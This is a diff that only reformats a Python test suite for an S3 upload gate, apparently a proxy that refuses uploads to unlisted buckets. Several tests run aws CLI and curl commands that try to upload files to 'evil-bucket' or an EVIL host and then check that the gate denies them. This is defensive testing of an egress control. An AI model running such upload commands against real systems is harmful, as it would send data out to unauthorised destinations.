@@ -28,9 +28,17 @@ async def gate(tmp_path: Path) -> AsyncIterator[GateProcess]:
 
 async def run(gate: GateProcess, *argv: str) -> tuple[int, str]:
     """Exit code and everything printed."""
-    environment = {**gate.environment(), "CURL_CA_BUNDLE": str(gate.directory / "ca.pem"), "PYTHONWARNINGS": "ignore"}
+    environment = {
+        **gate.environment(),
+        "CURL_CA_BUNDLE": str(gate.directory / "ca.pem"),
+        "PYTHONWARNINGS": "ignore",
+    }
     process = await asyncio.create_subprocess_exec(
-        *argv, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT, env=environment, cwd=gate.directory
+        *argv,
+        stdout=asyncio.subprocess.PIPE,
+        stderr=asyncio.subprocess.STDOUT,
+        env=environment,
+        cwd=gate.directory,
     )
     output, _ = await asyncio.wait_for(process.communicate(), SECONDS)
     assert process.returncode is not None
@@ -38,11 +46,16 @@ async def run(gate: GateProcess, *argv: str) -> tuple[int, str]:
 
 
 async def test_awscli_uploads_and_is_told_why_not(gate: GateProcess) -> None:
-    code, output = await run(gate, str(AWS), "s3api", "put-object", "--bucket", "good-bucket", "--key", "k", "--body", "small")
+    code, output = await run(
+        gate, str(AWS), "s3api", "put-object", "--bucket", "good-bucket", "--key", "k", "--body", "small"
+    )
     assert code == 0, output
     code, output = await run(gate, str(AWS), "s3", "cp", "big", "s3://evil-bucket/k")
     assert code == 1
-    assert "An error occurred (AccessDenied) when calling the CreateMultipartUpload operation: s3gate: " in output
+    assert (
+        "An error occurred (AccessDenied) when calling the CreateMultipartUpload operation: s3gate: "
+        in output
+    )
     assert "BUCKET_NOT_LISTED" in output
     code, output = await run(gate, str(AWS), "s3", "cp", "small", "s3://evil-bucket/k")
     assert "An error occurred (AccessDenied) when calling the PutObject operation: s3gate: " in output
@@ -80,7 +93,9 @@ async def test_boto3_uploads_downloads_and_is_told_why_not(gate: GateProcess) ->
 
 
 async def test_curl_uploads_byte_for_byte_and_downloads(gate: GateProcess) -> None:
-    code, output = await run(gate, "curl", "-sS", "-T", "big", f"https://{GOOD}/k", "-o", "answer", "-w", "%{http_code}")
+    code, output = await run(
+        gate, "curl", "-sS", "-T", "big", f"https://{GOOD}/k", "-o", "answer", "-w", "%{http_code}"
+    )
     assert (code, output) == (0, "200")
     assert gate.s3.connections[0].bodies == [(len(BODY), hashlib.sha256(BODY).hexdigest())]
     code, output = await run(gate, "curl", "-sS", f"https://{GOOD}/k")
@@ -90,7 +105,16 @@ async def test_curl_uploads_byte_for_byte_and_downloads(gate: GateProcess) -> No
 @pytest.mark.parametrize("expect", ["Expect: 100-continue", "Expect:"], ids=["with Expect", "without Expect"])
 async def test_curl_reads_its_refusal_without_uploading(gate: GateProcess, expect: str) -> None:
     code, output = await run(
-        gate, "curl", "-sS", "-T", "big", "-H", expect, f"https://{EVIL}/k", "-w", " %{http_code} %{size_upload} %{time_total}"
+        gate,
+        "curl",
+        "-sS",
+        "-T",
+        "big",
+        "-H",
+        expect,
+        f"https://{EVIL}/k",
+        "-w",
+        " %{http_code} %{size_upload} %{time_total}",
     )
     assert code == 0, output
     assert output.startswith('<?xml version="1.0" encoding="UTF-8"?>\n<Error><Code>AccessDenied</Code>')
